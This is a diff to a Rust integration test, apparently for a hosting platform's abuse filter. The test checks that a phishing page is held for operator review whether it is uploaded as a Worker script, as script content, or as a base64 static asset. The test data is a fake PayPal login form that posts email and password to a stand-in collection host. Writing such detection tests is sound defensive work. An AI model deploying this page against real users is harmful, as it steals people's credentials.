@@ -3,13 +3,14 @@
 use std::time::{Duration, Instant};
 
 use axum::body::Body;
+use base64::Engine as _;
 use http::{Method, Request, StatusCode};
 use serde_json::{Value, json};
 use slipway::abuse::store::{review_clear, reviews};
 use slipway_accounts::suspension::{Mark, lift, marked, suspend};
 use tower::ServiceExt as _;
 
-use super::support::{World, order};
+use super::support::{ESM, World, multipart, order};
 
 const HELLO: &str = "export default { fetch() { return new Response('hello') } }";
 
@@ -68,6 +69,42 @@ async fn a_name_that_imitates_another_is_held_until_the_operator_clears_it() {
         assert!(world.quote(&customer, "registrar:domain", wanted).await.is_ok());
     }
     assert!(world.quote(&customer, "registrar:domain", json!({"domain": "quiet-harbour.test"})).await.is_ok());
+}
+
+/// A form that sends a password to somebody else's host.
+const PHISH: &str = "<html><head><title>PayPal: log in</title></head><body><form method=post action=https://collect.example/take>\
+    <input name=email type=email><input name=password type=password><button>Log in</button></form></body></html>";
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_page_that_takes_passwords_is_held_by_whichever_way_it_comes() {
+    let Some(world) = World::start().await else { return };
+    let customer = world.customer("eve").await;
+    let workers = world.workers(&customer, "agt_e").await;
+    let code = format!("export default {{ fetch() {{ return new Response(`{PHISH}`) }} }}");
+    let held = |(status, said): (StatusCode, Value), way: &str| {
+        assert_eq!((status, &said["errors"][0]["code"]), (StatusCode::FORBIDDEN, &json!(10_021)), "{way}: {said}");
+    };
+    held(world.upload(&workers, "site", &code).await, "as a Worker");
+    // a harmless Worker first, other code for it afterwards
+    assert!(world.upload(&workers, "site", HELLO).await.0.is_success());
+    let metadata = json!({"main_module": "index.js"}).to_string();
+    let (kind, form) = multipart(&[("metadata", None, metadata.as_bytes()), ("index.js", Some(ESM), code.as_bytes())]);
+    let path = format!("/accounts/{}/workers/scripts/site/content", workers.account);
+    held(world.api_raw(&workers.token, Method::PUT, &path, &kind, form).await, "as other content");
+    let hash = "0123456789abcdef0123456789abcdef";
+    let manifest = json!({"manifest": {"/index.html": {"hash": hash, "size": PHISH.len()}}});
+    let path = format!("/accounts/{}/workers/scripts/site/assets-upload-session", workers.account);
+    let (_, session) = world.api(&workers.token, Method::POST, &path, Some(manifest)).await;
+    let encoded = base64::engine::general_purpose::STANDARD.encode(PHISH);
+    let (kind, form) = multipart(&[(hash, Some("text/html"), encoded.as_bytes())]);
+    let path = format!("/accounts/{}/workers/assets/upload?base64=true", workers.account);
+    let session = session["result"]["jwt"].as_str().unwrap().to_owned();
+    held(world.api_raw(&session, Method::POST, &path, &kind, form.clone()).await, "as a static file");
+    // the operator looked at the file and found nothing wrong with it
+    let held = world.cloud.db.read(reviews).await.unwrap();
+    let (file, now) = (held.iter().find(|review| review.what == "asset").unwrap().reference.clone(), world.cloud.env.now());
+    assert!(world.cloud.db.write(move |tx| review_clear(tx, &file, now)).await.unwrap());
+    assert_eq!(world.api_raw(&session, Method::POST, &path, &kind, form).await.0, StatusCode::OK);
 }
 
 #[tokio::test(flavor = "multi_thread")]
